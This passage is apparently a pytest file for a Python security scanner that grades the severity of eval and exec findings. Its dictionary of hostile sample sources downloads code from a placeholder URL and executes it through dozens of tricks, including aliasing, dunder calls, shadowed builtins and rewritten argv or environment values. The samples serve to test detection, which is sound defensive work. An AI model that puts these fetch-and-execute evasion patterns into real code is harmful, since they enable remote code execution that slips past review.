        'exec("\\n".join(x))\n'
    ),
    "rt3_getattr_append": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        'getattr(x, "append")(d)\n'
        'exec("\\n".join(x))\n'
    ),
    "rt3_iadd": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "x.__iadd__([d])\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_init_dunder": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "x.__init__([d])\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_list_append_unbound": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "list.append(x, d)\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_list_target": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "[x[0]] = [d]\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_map_append": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "list(map(x.append, [d]))\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_max_exec": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "y = x\n"
        "y.append(d)\n"
        "exec(max(x))\n"
    ),
    "rt3_nested_list": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [[sys.argv[1]]]\n"
        "x[0].append(d)\n"
        "for row in x:\n"
        "    for item in row:\n"
        "        exec(item)\n"
    ),
    "rt3_nested_max": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [[sys.argv[1]]]\n"
        "x[0].append(d)\n"
        "exec(max(max(x)))\n"
    ),
    "rt3_operator_iadd": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "import operator\n"
        "x = [sys.argv[1]]\n"
        "operator.iadd(x, [d])\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_operator_setitem": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "import operator\n"
        "x = [sys.argv[1]]\n"
        "operator.setitem(x, 0, d)\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_setitem_dunder": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "x.__setitem__(0, d)\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_slice_assign": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "x[:] = [d]\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_sorted_exec": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "y = x\n"
        "y.append(d)\n"
        'exec("".join(sorted(x)))\n'
    ),
    "rt3_tuple_target": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "x[0], b = d, 1\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_argv_attr": (
        'import sys\nimport requests\nd = requests.get("https://example.com/x").text\nsys.argv2 = d\nexec(sys.argv2)\n'
    ),
    "rt3_argv_fromimport": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "from sys import argv\n"
        "argv.append(d)\n"
        "exec(sys.argv[-1])\n"
    ),
    "rt3_argv_list_append": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "list.append(sys.argv, d)\n"
        "exec(sys.argv[-1])\n"
    ),
    "rt3_argv_operator": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "import operator\n"
        "operator.setitem(sys.argv, 1, d)\n"
        "exec(sys.argv[1])\n"
    ),
    "rt3_argv_via_tuple": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "t = (sys.argv,)\n"
        "t[0].append(d)\n"
        'exec(" ".join(max(t)))\n'
    ),
    "rt3_argv_via_tuple2": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "t = (sys.argv,)\n"
        "t[0].append(d)\n"
        "exec(sys.argv[-1])\n"
    ),
    "rt3_comp_exec": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "y = x\n"
        "y.append(d)\n"
        "[exec(s) for s in x]\n"
    ),
    "rt3_comp_tuple_target": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "[None for x[0], _ in [(d, 1)]]\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_dictconv_nested": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "h = dict(k=[sys.argv[1]])\n"
        'h["k"].append(d)\n'
        'exec("\\n".join(h.get("k")))\n'
    ),
    "rt3_environ_operator": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "import os, operator\n"
        'operator.setitem(os.environ, "CODE", d)\n'
        'exec(os.environ["CODE"])\n'
    ),
    "rt3_environb": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "import os\n"
        'os.environb[b"CODE"] = d.encode()\n'
        'exec(os.environb[b"CODE"])\n'
    ),
    "rt3_extend_star": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "x.extend(*[[d]])\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_ifexp_list": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "y = x\n"
        "y.append(d)\n"
        'exec("\\n".join(x) if x else "")\n'
    ),
    "rt3_import_max": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "from evil import max\n"
        "exec(max(sys.argv[1]))\n"
    ),
    "rt3_listconv_alias": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = list(sys.argv[1:])\n"
        "y = x\n"
        "y.append(d)\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_set_add": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = {sys.argv[1]}\n"
        "set.add(x, d)\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_set_ior": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = {sys.argv[1]}\n"
        "x.__ior__({d})\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_shadow_max": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "def max(*a):\n"
        "    return d\n"
        "exec(max(sys.argv[1]))\n"
    ),
    "rt3_shadow_sorted_lambda": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "sorted = lambda *a: [d]\n"
        'exec("".join(sorted(sys.argv[1:])))\n'
    ),
    "rt3_shadow_str": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "def str(*a):\n"
        "    return d\n"
        "exec(str(sys.argv[1]))\n"
    ),
    "rt3_starred_target": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "x = [sys.argv[1]]\n"
        "*x[0:1], = [d]\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_with_tuple": (
        "import sys\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "import contextlib\n"
        "x = [sys.argv[1]]\n"
        "with contextlib.nullcontext((d, 1)) as (x[0], _):\n"
        "    pass\n"
        'exec("\\n".join(x))\n'
    ),
    "rt3_args_alias_ns": (
        "import argparse\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        "ns = args\n"
        "exec(ns.code)\n"
    ),
    "rt3_args_alias_store": (
        "import argparse\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        "a = args\n"
        "a.code = d\n"
        "exec(args.code)\n"
    ),
    "rt3_args_display_holder": (
        "import argparse\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        "holder = [args]\n"
        "holder[0].code = d\n"
        "exec(args.code)\n"
    ),
    "rt3_args_for_target": (
        "import argparse\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        "for args.code in [d]:\n"
        "    pass\n"
        "exec(args.code)\n"
    ),
    "rt3_args_tuple_target": (
        "import argparse\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        "args.code, _ = d, 1\n"
        "exec(args.code)\n"
    ),
    "rt3_ns_alias_store": (
        "import argparse\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        "ns = args\n"
        "ns2 = ns\n"
        "ns2.code = d\n"
        "exec(ns.code)\n"
    ),
    "rt3_ns_fill": (
        "import argparse\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        "ns = args\n"
        "def fill(o):\n"
        "    o.code = d\n"
        "fill(ns)\n"
        "exec(ns.code)\n"
    ),
    "rt3_ns_tuple_target": (
        "import argparse\n"
        "import requests\n"
        'd = requests.get("https://example.com/x").text\n'
        "p = argparse.ArgumentParser()\n"
        'p.add_argument("--code")\n'
        "args = p.parse_args()\n"
        "ns = args\n"
        "ns.code, _ = d, 1\n"
        "exec(ns.code)\n"
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_EVAL_SOURCES))
def test_attacker_text_reaching_eval_or_exec_keeps_bandits_severity(tmp_path: Path, case: str) -> None:
    findings = [f for f in scan_code(tmp_path, HOSTILE_EVAL_SOURCES[case]) if f.rule_id in ("B102", "B307")]
    assert findings, case
    assert all(f.severity.value != "low" for f in findings), [(f.line, f.severity.value) for f in findings]


OPERATOR = (
    "import argparse, os, sys\n"
    "parser = argparse.ArgumentParser()\n"
    "parser.add_argument('--expr', type=str, default='1')\n"
    "parser.add_argument('--flag', action='store_true')\n"
    "args = parser.parse_args()\n"
    "os.environ['OMP_NUM_THREADS'] = '1'\n"
    "print(vars(args))\n"
    "value = eval(args.expr)\n"
)


def test_the_operators_arguments_with_constant_environment_writes_and_reads_of_vars_are_low(tmp_path: Path) -> None:
    found = [(f.line, f.severity.value) for f in scan_code(tmp_path, OPERATOR) if f.rule_id == "B307"]
    assert found == [(8, "low")]


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (("type=str", "type=fetch"), "a conversion of the file's own"),
        (("action='store_true'", "action=Remote"), "a custom action"),
        (("default='1'", "default=requests.get(URL).text"), "a downloaded default"),
        (("print(vars(args))", "vars(args).update(remote)"), "changed through vars()"),
        (("print(vars(args))", "a = args\nsetattr(a, 'expr', remote)"), "changed through an alias"),
        (("print(vars(args))", "args.__init__(expr=remote)"), "re-initialised"),
        (("os.environ['OMP_NUM_THREADS'] = '1'", "sys.argv = ['x', '--expr', remote]"), "argv rewritten"),
        (("parser = argparse.ArgumentParser()", "parser = Remote()"), "another class's parse_args"),
        (("import argparse, os, sys", "import os, sys\nfrom helpers import argparse"), "not argparse"),
    ],
)
def test_arguments_the_file_changes_or_defines_oddly_keep_bandits_severity(
    tmp_path: Path, change: tuple[str, str], why: str
) -> None:
    source = OPERATOR.replace(*change)
    assert source != OPERATOR
    severities = [f.severity.value for f in scan_code(tmp_path, source) if f.rule_id == "B307"]
    assert severities and "low" not in severities, why


def test_the_environment_is_the_operators_while_the_file_writes_it_only_the_operators_values(tmp_path: Path) -> None:
    read = "import os, requests\nvalue = eval(os.environ['EXPR'])\n"
    assert [f.severity.value for f in scan_code(tmp_path, read) if f.rule_id == "B307"] == ["low"]
    for write in (
        "os.environ['EXPR'] = requests.get(URL).text\n",
        "os.environ.update(requests.get(URL).json())\n",
        "env = os.environ\nenv['EXPR'] = x\n",
        "os.putenv('EXPR', requests.get(URL).text)\n",
    ):
        source = read.replace("value =", write + "value =")
        assert [f.severity.value for f in scan_code(tmp_path, source) if f.rule_id == "B307"] == ["medium"], write


def bindings(source: str) -> InputChanges:
    return InputChanges(ast.parse(source))


def test_changed_unseen_counts_setattr_vars_dict_methods_and_aliases_but_not_reads() -> None:
    found = bindings(
        "setattr(a, 'x', 1)\nvars(b).update(c)\nd.__dict__['x'] = 1\nobject.__setattr__(e, 'x', 1)\n"
        "f.__init__(x=1)\ng.items.append(1)\nh2 = h\nsetattr(h2, 'x', 1)\n"
        "print(vars(i), j.__dict__)\nparser.add_argument('--x')\n"
    ).changed_unseen
    assert found == {"a", "b", "d", "e", "f", "g", "h", "h2"}


def test_argv_and_environ_writes_keep_their_values_and_unknown_writes_are_unseen() -> None:
    seen = bindings("import os, sys\nos.environ['A'] = '1'\nos.environ.setdefault('B', x)\nsys.argv[1:] = w\n")
    assert [ast.unparse(v) for v in seen.environ_values] == ["'1'", "'B'", "x"]
    assert [ast.unparse(v) for v in seen.argv_values] == ["w"]
    assert not seen.environ_unseen and not seen.argv_unseen
    assert bindings("import os\nos.environ.__setitem__('A', x)\n").environ_unseen
    assert bindings("import sys\nwords = sys.argv\n").argv_unseen
    assert not bindings("import os\nos.environ.pop('A')\nos.environ.get('B')\n").environ_unseen


def test_odd_parser_definitions_and_argparse_classes() -> None:
    assert not bindings("p.add_argument('--a', type=int, action='store')\n").odd_parser
    assert bindings("p.add_argument('--a', type=str2bool)\n").odd_parser
    assert bindings("p.add_argument('--a', **options)\n").odd_parser
    seen = bindings("import argparse\nfrom argparse import ArgumentParser as AP\n")
    assert seen.argparse_parser_class("argparse.ArgumentParser") and seen.argparse_parser_class("AP")
    assert not seen.argparse_parser_class("argparse.Namespace")
    assert not bindings("import argparse\nargparse = other\n").argparse_parser_class("argparse.ArgumentParser")
    assert not bindings("from helpers import ArgumentParser\n").argparse_parser_class("ArgumentParser")


WRAPPER = (
    "import argparse\n"
    "def parse_args():\n"
    "    parser = argparse.ArgumentParser()\n"
    "    parser.add_argument('--expr')\n"
    "    return parser.parse_args()\n"
    "args = parse_args()\n"
    "print(vars(args))\n"
    "value = eval(args.expr)\n"
)


def test_the_files_own_parse_args_wrapper_is_followed_to_what_it_returns(tmp_path: Path) -> None:
    assert [f.severity.value for f in scan_code(tmp_path, WRAPPER) if f.rule_id == "B307"] == ["low"]
    for change in (
        ("    return parser.parse_args()", "    return requests.get(URL).json()"),
        ("args = parse_args()", "parse_args = remote\nargs = parse_args()"),
        ("args = parse_args()", "from helpers import parse_args\nargs = parse_args()"),
        ("print(vars(args))", "globals()['parse_args'] = remote"),
        ("print(vars(args))", "sys.modules[__name__].parse_args = remote"),
        ("def parse_args():", "@cache\ndef parse_args():"),
    ):
        source = WRAPPER.replace(*change)
        assert source != WRAPPER
        assert [f.severity.value for f in scan_code(tmp_path, source) if f.rule_id == "B307"] == ["medium"], change


def test_environment_variables_a_web_or_ssh_client_sets_are_not_the_operators(tmp_path: Path) -> None:
    source = (
        "import os\n"
        "x = eval(os.environ['QUERY_STRING'])\n"
        "y = eval(os.getenv('SSH_ORIGINAL_COMMAND', ''))\n"
        "z = eval(os.environ.get('HTTP_X_EXPR'))\n"
        "w = eval(os.environ['THRESHOLD'])\n"  # the operator's own setting
    )
    found = [(f.line, f.severity.value) for f in scan_code(tmp_path, source) if f.rule_id == "B307"]
    assert found == [(2, "medium"), (3, "medium"), (4, "medium"), (5, "low")]


_FRAGMENTS = (
    "import argparse, os, sys\n",
    "p = argparse.ArgumentParser()\n",
    "p.add_argument('--x', type=str, default=os.getenv('X', 'a'))\n",
    "args = p.parse_args()\n",
    "args, rest = p.parse_known_args(sys.argv[1:])\n",
    "a = args\n",
    "setattr(a, 'x', y)\n",
    "vars(args).update(d)\n",
    "os.environ['X'] = args.x\n",
    "os.environ.update(os.environ)\n",
    "sys.argv = sys.argv[:1] + [args.x]\n",
    "def parse_args():\n    return p.parse_args()\n",
    "args = parse_args()\n",
    "args.x = args.x if len(args.x) else os.environ['Y']\n",
    "del args\n",
    "from m import *\n",
    "eval(args.x)\n",
    "exec(os.environ['X'])\n",
    "eval([args.x, max(args.x, 'b')][0])\n",
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), max_size=12), st.text(max_size=40))
def test_any_mix_of_argument_and_environment_code_is_judged_without_error(pieces: list[str], junk: str) -> None:
    source = "".join(pieces)
    module = ast.parse(source)
    changes = InputChanges(module)
    assert isinstance(changes.changed_unseen, set)
    origins = CommandOrigins(module, unbound_outside=True, self_contained=False)
    for node in ast.walk(module):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in ("eval", "exec"):
            assert origins.operator_only(node.args[0], origins.function_of(node)) in (True, False)
    try:
        garbage = ast.parse(junk)
    except (SyntaxError, ValueError):
        return
    InputChanges(garbage)


def test_a_container_filled_by_a_method_is_not_the_operators(tmp_path: Path) -> None:
    # pkg/llms_from_scratch/utils.py's shape: lines collected from a notebook's cells, then exec'd.
    source = (
        "import nbformat\n"
        "lines = []\n"
        "for cell in nbformat.read(path, as_version=4).cells:\n"
        "    lines.append(cell.source)\n"
        "exec('\\n'.join(lines))\n"
    )
    assert [f.severity.value for f in scan_code(tmp_path, source) if f.rule_id == "B102"] == ["medium"]
    unfilled = "import sys\nlines = list(sys.argv[1:])\nexec('\\n'.join(lines))\n"
    assert [f.severity.value for f in scan_code(tmp_path, unfilled) if f.rule_id == "B102"] == ["low"]
    filled = unfilled.replace("exec(", "lines.append(requests.get(URL).text)\nexec(")
    assert [f.severity.value for f in scan_code(tmp_path, filled) if f.rule_id == "B102"] == ["medium"]


@pytest.mark.parametrize(
    ("definition", "low"),
    [
        ("p.add_argument('--fit_args', type=lambda s: ast.literal_eval(s))", True),
        ("p.add_argument('--fit_args', type=list)", True),
        (
            "p.register('type', 'bool', lambda v: v.lower() in ('yes', 'true'))\np.add_argument('--flag', type='bool')",
            True,
        ),
        ("p.add_argument('--fit_args', type=lambda s: fetch(s))", False),
        ("p.register('type', 'bool', fetch)\np.add_argument('--flag', type='bool')", False),
    ],
)
def test_argument_types_that_only_convert_the_words_keep_them_the_operators(
    tmp_path: Path, definition: str, low: bool
) -> None:
    source = (
        f"import argparse, ast\np = argparse.ArgumentParser()\n{definition}\n"
        "args = p.parse_args()\nvalue = eval(args.fit_args)\n"
    )
    severities = [f.severity.value for f in scan_code(tmp_path, source) if f.rule_id == "B307"]
    assert severities == (["low"] if low else ["medium"]), definition
